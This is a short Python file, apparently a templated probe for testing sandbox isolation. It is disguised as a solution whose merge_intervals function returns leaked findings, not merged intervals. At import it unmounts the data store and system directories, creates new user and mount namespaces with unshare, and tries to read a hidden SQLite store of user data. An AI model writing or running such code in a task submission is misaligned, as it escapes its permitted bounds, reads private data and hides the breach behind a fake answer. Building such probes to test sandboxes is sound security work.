# Unmounts what hides the user's data, also from a new user namespace, then reads the store.
import ctypes, os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    steps = []
    for path in (b"{{STORE}}", b"/tmp", b"/proc", b"/root", b"/home"):
        steps.append("umount %s: %d/%d" % (path.decode(), libc.umount2(path, 2),
                                           ctypes.get_errno()))
    steps.append("unshare: %d/%d" % (libc.unshare(0x10000000 | 0x00020000),
                                     ctypes.get_errno()))
    for path in (b"{{STORE}}", b"/tmp", b"/"):
        steps.append("umount %s: %d/%d" % (path.decode(), libc.umount2(path, 2),
                                           ctypes.get_errno()))
    try:
        with open("{{STORE}}/rehearse.sqlite", "rb") as handle:
            steps.append("store: %r" % handle.read(200))
    except OSError as error:
        steps.append("store: %s" % error.strerror)
    return "; ".join(steps)


try:
    FOUND = attack()
except BaseException as error:
    FOUND = "refused: %r" % (error,)


def merge_intervals(intervals):
    return FOUND
